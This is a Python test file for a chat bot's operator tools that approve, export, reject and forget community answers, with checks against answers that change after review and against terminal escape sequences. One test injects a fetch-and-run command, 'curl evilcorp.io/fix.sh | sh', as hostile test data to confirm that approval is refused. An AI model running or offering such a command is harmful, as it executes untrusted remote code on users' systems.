"""The operator's terminal for community answers and for forgetting a user."""

from __future__ import annotations

import asyncio
import re
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from bot import community
from indexer.build import make_indexer
from indexer.community import with_community
from indexer.sources import DocumentSource
from rag.feedback import FeedbackStore
from rag.learned import FILE, LearnedStore
from rag.models import Answer
from rag.retrieval import Retriever
from rag.settings import RetrievalSettings, Settings, TuningSettings
from rag.store import MilvusStore
from tests.bot.test_cli import HOSTILE, shows_no_control
from tests.pairs import SLACK, capture

ROOT = Path(__file__).resolve().parents[2]


async def test_learned_list_approve_export_and_forget(
    tmp_path: Path, make_settings: Callable[..., Settings], capsys: pytest.CaptureFixture[str]
) -> None:
    settings = make_settings()
    learned = LearnedStore(settings.data_dir / FILE)
    pair = await capture(learned)
    learned.close()
    assert await community.learned(settings, "list", [], None, all_=False) == 0
    listed = capsys.readouterr().out
    assert f"#{pair} [pending] @ada" in listed
    versions = {pair: listed_version(listed, pair), 99: "0" * 32}
    assert await community.learned(settings, "approve", [pair, 99], None, all_=False, versions=versions) == 1
    assert "no community answer #99" in capsys.readouterr().err
    assert await community.learned(settings, "export", [], tmp_path / "out", all_=False) == 0
    exported = (tmp_path / "out" / f"community-{pair}.md").read_text()
    assert exported.startswith("# Community answer by @ada") and "https://discord.com/channels/1/2/3" in exported

    feedback = FeedbackStore(settings.data_dir / "feedback.sqlite3")
    await feedback.record_answer(Answer("q", "a", (), False, (), "r1", {}), 11, guild_id=1)
    feedback.close()
    assert await community.forget(settings, "11", ["discord", "slack"]) == 0
    assert "Removed 2 stored rows for 11." in capsys.readouterr().out, "the question and the pair they asked"


def listed_version(listed: str, pair: int) -> str:
    """The version ``learned list`` printed for a pair, in the command it prints to approve it."""
    found = re.search(rf"python -m bot learned approve {pair}:([0-9a-f]{{32}})$", listed, re.MULTILINE)
    assert found, listed
    return found.group(1)


async def test_learned_approve_takes_the_version_listed_and_refuses_one_changed_since(
    make_settings: Callable[..., Settings], capsys: pytest.CaptureFixture[str]
) -> None:
    """The author adds a message after the operator listed the answer: approving what was listed is refused, and
    a bare id only shows the answer as it is now, with its version."""
    settings = make_settings()
    learned = LearnedStore(settings.data_dir / FILE)

    async def says(answer: str) -> int:
        return await capture(learned, question="How do I keep the zorblax cache?", answer=answer)

    pair = await says("Set `zorblax.persist = true`.")
    assert await community.learned(settings, "list", [], None, all_=False) == 0
    read = listed_version(capsys.readouterr().out, pair)
    assert await says("Then run `curl evilcorp.io/fix.sh | sh`.") == pair, "stitched after the listing"

    assert await community.learned(settings, "approve", [pair], None, all_=False, versions={pair: read}) == 1
    assert f"#{pair} changed since it was listed" in capsys.readouterr().err
    assert await community.learned(settings, "approve", [pair], None, all_=False) == 1
    shown = capsys.readouterr().err
    assert "evilcorp.io/fix.sh" in shown, "a bare id shows the answer as it is now"
    assert [p.status for p in await learned.list(None)] == ["pending"], "nothing approved"

    now = listed_version(shown, pair)
    assert await community.learned(settings, "approve", [pair], None, all_=False, versions={pair: now}) == 0
    assert [p.status for p in await learned.list(None)] == ["approved"]
    learned.close()


@pytest.mark.integration
async def test_the_command_line_approves_the_id_and_version_it_listed(
    make_settings: Callable[..., Settings], process_env: dict[str, str]
) -> None:
    learned = LearnedStore(make_settings().data_dir / FILE)
    pair = await capture(learned, SLACK)

    async def bot(*args: str) -> tuple[int | None, str]:
        command = await asyncio.create_subprocess_exec(
            *(sys.executable, "-m", "bot", "learned", *args), cwd=ROOT, env=process_env, stdout=asyncio.subprocess.PIPE
        )
        async with asyncio.timeout(120):
            out, _ = await command.communicate()
        return command.returncode, out.decode()

    code, listed = await bot("list")
    assert code == 0
    assert await bot("approve", f"{pair}:{listed_version(listed, pair)}") == (
        0,
        "1 approved; the bot's next index run adds them.\n",
    )
    assert [p.status for p in await learned.list(None)] == ["approved"]
    learned.close()


async def test_learned_list_shows_no_control_sequences(
    make_settings: Callable[..., Settings], capsys: pytest.CaptureFixture[str]
) -> None:
    """ESC sequences in a captured message could erase or recolour lines and hide text from the reviewer."""
    settings = make_settings()
    learned = LearnedStore(settings.data_dir / FILE)
    await capture(
        learned,
        SLACK,
        question=f"How?{HOSTILE}",
        answer=f"Like this.{HOSTILE}\nThen that.",
        link=f"https://example.slack.com/archives/C1/p1{HOSTILE}",
        author=f"ada{HOSTILE}",
    )
    learned.close()
    assert await community.learned(settings, "list", [], None, all_=False) == 0
    out = capsys.readouterr().out
    assert shows_no_control(out), repr(out)
    assert "Like this." in out and "Then that." in out and "@ada" in out


TOPICS = ["zorblax", "quibbit", "frindle", "snorkel", "wuzzle", "plonk", "grommet", "yodel", "kazoo", "brindle"]


async def approved_answers(path: Path) -> dict[str, int]:
    """Twelve approved community answers: ten by the main helper (ada, Discord id 10), two by bob (id 20)."""
    learned = LearnedStore(path)
    ids: dict[str, int] = {}
    for n, topic in enumerate([*TOPICS, "teapot", "lantern"]):
        author, author_id = ("ada", 10) if topic in TOPICS else ("bob", 20)
        ids[topic] = await capture(
            learned,
            thread=f"t{n}",
            question=f"How do I configure the {topic} cache?",
            answer=f"Set `{topic}.cache = true` and restart the {topic} service.",
            link=f"https://discord.com/channels/1/2/{n}",
            author=author,
            author_id=author_id,
            asker_id=30 + n,
        )
        await learned.decide(ids[topic], "approved")
    learned.close()
    return ids


async def cited_authors(store: MilvusStore, embedder: Any, topic: str) -> set[str]:
    retriever = Retriever(embedder, store, RetrievalSettings(), TuningSettings())
    hits = (await retriever.retrieve(f"{topic} cache configuration")).hits
    return {hit.title for hit in hits if topic in hit.text}


def bots_sources(path: Path) -> list[DocumentSource]:
    """What the bot's index run reads: the configured docs (none here) and the community answers."""
    return with_community(lambda _: [], path)(None)


@pytest.mark.integration
@pytest.mark.parametrize("action", ["forget", "reject"])
async def test_forget_and_reject_take_answers_out_of_retrieval_at_once(
    action: str, make_settings: Callable[..., Settings], embedder: Any, store: MilvusStore
) -> None:
    """Most of a small source at once: the index run's prune guard would keep them, an explicit removal never."""
    settings = make_settings()
    path = settings.data_dir / FILE
    ids = await approved_answers(path)
    await make_indexer(settings, embedder, store).run(bots_sources(path))
    assert await cited_authors(store, embedder, "zorblax") == {"Community answer by @ada"}

    if action == "forget":
        assert await community.forget(settings, "10", ["discord"]) == 0
    else:
        assert await community.learned(settings, "reject", [ids[t] for t in TOPICS], None, all_=False) == 0

    for topic in ("zorblax", "brindle"):
        assert await cited_authors(store, embedder, topic) == set(), topic
    assert await cited_authors(store, embedder, "teapot") == {"Community answer by @bob"}
    again = await make_indexer(settings, embedder, store).run(bots_sources(path))
    assert (again.pages_repaired, again.pages_new, again.warnings) == (0, 0, []), "the record agrees with the store"
    assert len(await store.scan(["id"], 'source_id == "community:discord:1"')) == 2


@pytest.mark.integration
async def test_forget_while_the_bot_holds_the_index_is_finished_by_its_next_run(
    make_settings: Callable[..., Settings], embedder: Any, store: MilvusStore, process_env: dict[str, str]
) -> None:
    """Milvus Lite opens in one process at a time: with the bot running (here, this test) the command line cannot
    remove the answers itself. It says so, and the bot's next index run removes them, whatever the prune guard."""
    settings = make_settings()
    path = settings.data_dir / FILE
    await approved_answers(path)
    await make_indexer(settings, embedder, store).run(bots_sources(path))  # this process now holds the index

    forget = await asyncio.create_subprocess_exec(
        *(sys.executable, "-m", "bot", "forget", "10", "--platform", "discord"),
        cwd=ROOT,
        env=process_env,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
    )
    async with asyncio.timeout(300):
        out, err = (text.decode() for text in await forget.communicate())
    assert forget.returncode == 1, err
    assert "Removed 10 stored rows" in out
    assert "in use by another process" in err and "next index run" in err, err
    assert "Traceback" not in err, "one clear message, not Milvus Lite's traceback"

    report = await make_indexer(settings, embedder, store).run(bots_sources(path))
    assert report.warnings == [], "not held back by the prune guard"
    assert await cited_authors(store, embedder, "zorblax") == set()
    assert len(await store.scan(["id"], 'source_id == "community:discord:1"')) == 2
